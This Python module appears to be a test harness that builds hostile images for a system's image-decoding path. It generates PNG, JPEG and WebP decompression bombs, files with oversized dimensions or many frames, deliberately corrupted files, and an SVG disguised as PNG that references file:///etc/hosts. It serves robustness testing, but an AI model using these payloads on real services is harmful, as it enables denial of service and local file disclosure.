"""Pictures that are small to send and large, slow or something else once a decoder believes them."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator

from PIL import Image

from game_bridge.attack.picture_seed import png_chunk
from npc_sdk.messages import ImagePart

PNG, JPEG, WEBP = "image/png", "image/jpeg", "image/webp"
_SIGNATURE = b"\x89PNG\r\n\x1a\n"
_UNPACKED = 256 * 2**20
_FRAMES = 10_000
_4K = (4_096, 2_176)
_QHD = (2_560, 1_600)
_FOREIGN = ("GIF", "TIFF", "BMP", "ICO", "PPM", "TGA", "PCX", "JPEG2000")


def bombs() -> Iterator[tuple[str, ImagePart]]:
    """Each with its name."""
    yield from _png_bombs()
    yield from _jpeg_bombs()
    yield from _webp_bombs()
    yield from _raw_bombs()
    for kind in _FOREIGN:
        yield f"{kind} as PNG", ImagePart(PNG, _encoded(Image.new("RGB", (64, 64)), kind))
    yield (
        "SVG as PNG",
        ImagePart(PNG, b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/hosts"/></svg>'),
    )
    yield "Photoshop as PNG", ImagePart(PNG, b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 30_000, 30_000, 8, 3))
    yield "EPS as JPEG", ImagePart(JPEG, b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n")


def _png_bombs() -> Iterator[tuple[str, ImagePart]]:
    blank = _deflated(_UNPACKED)
    row = _deflated(64 * (1 + 3 * 64))
    yield "PNG of 2^31 pixels a side", ImagePart(PNG, _png(_head(2**31 - 1, 2**31 - 1), row))
    yield "PNG of 169 million pixels", ImagePart(PNG, _png(_head(13_000, 13_000, colour=0), _deflated(169_013_000)))
    yield "PNG that unpacks to 256 MB", ImagePart(PNG, _png(_head(64, 64), blank))
    yield "PNG of a 4K screen and a row", ImagePart(PNG, _png(_head(*_4K), row))
    yield "PNG of a blank 4K screen", ImagePart(PNG, _png(_head(*_4K, colour=6), _deflated(_4K[1] * (4 * _4K[0] + 1))))
    yield "PNG of a blank 4K screen, the end wrong", ImagePart(PNG, _png(_head(*_4K, colour=6), _wrong_end()))
    yield "PNG of a laced 4K screen", ImagePart(PNG, _png(_head(*_4K, colour=6, lacing=1), blank))
    for kind, start in ((b"zTXt", b"t\0\0"), (b"iTXt", b"t\0\1\0\0\0"), (b"iCCP", b"p\0\0")):
        extra = png_chunk(kind, start + blank)
        yield f"PNG with a large {kind.decode()}", ImagePart(PNG, _png(_head(64, 64), row, extra))
    empty = png_chunk(b"tEXt", b"k\0v") * 200_000
    yield "PNG of 200,000 chunks", ImagePart(PNG, _png(_head(64, 64), row, empty))
    control = png_chunk(b"acTL", struct.pack(">II", _FRAMES, 0))
    frames = b"".join(
        png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 64, 64, 0, 0, 1, 1, 0, 0)) for n in range(_FRAMES)
    )
    yield "PNG of 10,000 frames", ImagePart(PNG, _png(_head(64, 64), row, control + frames))


def _jpeg_bombs() -> Iterator[tuple[str, ImagePart]]:
    sound = _encoded(Image.new("RGB", (64, 64), (200, 0, 0)), "JPEG")
    at = sound.index(b"\xff\xc0") + 5
    for side in (65_535, 8_000, 4_096):
        yield (
            f"JPEG of {side} pixels a side",
            ImagePart(JPEG, sound[:at] + struct.pack(">HH", side, side) + sound[at + 4 :]),
        )
    yield "JPEG of 16 million pixels", ImagePart(JPEG, _encoded(_grain((4_096, 4_096)), "JPEG"))
    many = _encoded(_grain(_QHD), "JPEG", progressive=True, subsampling=0)
    yield "JPEG of a progressive screen", ImagePart(JPEG, many)
    yield "JPEG of a progressive screen, the end wrong", ImagePart(JPEG, many[:-2] + b"\xff\xc4\0\5bad" + many[-2:])
    plain = _encoded(Image.new("RGB", _QHD, (9, 99, 199)), "JPEG", progressive=True, subsampling=0)
    last = plain[plain.rindex(b"\xff\xda") : -2]
    for scans in (6, 500):
        yield f"JPEG of {scans} scans more", ImagePart(JPEG, plain[:-2] + last * scans + plain[-2:])
    yield (
        "JPEG of comments only",
        ImagePart(JPEG, b"\xff\xd8" + b"\xff\xfe\xff\xff" + bytes(65_533) + b"\xff\xfe\0\2" * 10**6),
    )
    yield "JPEG of fill bytes only", ImagePart(JPEG, b"\xff\xd8" + b"\xff" * 8_000_000)
    cmyk = _encoded(Image.new("CMYK", (64, 64)), "JPEG")
    yield "JPEG of four colours", ImagePart(JPEG, cmyk)


def _webp_bombs() -> Iterator[tuple[str, ImagePart]]:
    canvas = b"VP8X" + struct.pack("<I", 10) + bytes((2, 0, 0, 0)) + b"\xff\x3f\0" * 2
    yield "WebP of a huge canvas", ImagePart(WEBP, _riff(canvas))
    frame = b"ANMF" + struct.pack("<I", 16) + bytes(16)
    yield (
        "WebP of 10,000 frames",
        ImagePart(WEBP, _riff(canvas + b"ANIM" + struct.pack("<I", 6) + bytes(6) + frame * _FRAMES)),
    )
    lossless = b"\x2f" + (0x3FFF | 0x3FFF << 14).to_bytes(4, "little") + bytes(100)
    yield (
        "WebP of 16,384 pixels a side",
        ImagePart(WEBP, _riff(b"VP8L" + struct.pack("<I", len(lossless)) + lossless + b"\0")),
    )
    for name, options in (("lossless", {"lossless": True, "quality": 0}), ("lossy", {"quality": 90})):
        whole = _encoded(_grain(_QHD), "WEBP", method=0, **options)
        yield f"WebP of a {name} screen", ImagePart(WEBP, whole)
        yield f"WebP of a {name} screen, the end wrong", ImagePart(WEBP, whole[:-50_000] + bytes(50_000))


def _raw_bombs() -> Iterator[tuple[str, ImagePart]]:
    yield (
        "raw of 2^32 pixels a side",
        ImagePart("image/x-rgb8", struct.pack(">III", 2**32 - 1, 2**32 - 1, 3) + bytes(99)),
    )
    yield "raw of overlapping rows", ImagePart("image/x-rgba8", struct.pack(">III", 8_000, 2_000, 0) + bytes(32_000))


def _grain(size: tuple[int, int]) -> Image.Image:
    """Noise takes a decoder the longest."""
    grain = Image.effect_noise(size, 60)
    return Image.merge("RGB", (grain, grain.rotate(180), grain.transpose(Image.Transpose.FLIP_LEFT_RIGHT)))


def _head(width: int, height: int, colour: int = 2, lacing: int = 0) -> bytes:
    return png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, lacing))


def _png(head: bytes, packed: bytes, extra: bytes = b"") -> bytes:
    return _SIGNATURE + head + extra + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")


def _wrong_end() -> bytes:
    """All rows but the last are sound, so that the fault is found as late as can be."""
    packer = zlib.compressobj(9)
    packed = packer.compress(bytes((_4K[1] - 1) * (4 * _4K[0] + 1))) + packer.flush(zlib.Z_FULL_FLUSH)
    return packed + b"\xff" * 100


def _deflated(zeros: int) -> bytes:
    packer, block = zlib.compressobj(9), bytes(2**20)
    packed = [packer.compress(block) for _ in range(zeros // 2**20)]
    return b"".join([*packed, packer.compress(bytes(zeros % 2**20)), packer.flush()])


def _riff(body: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()
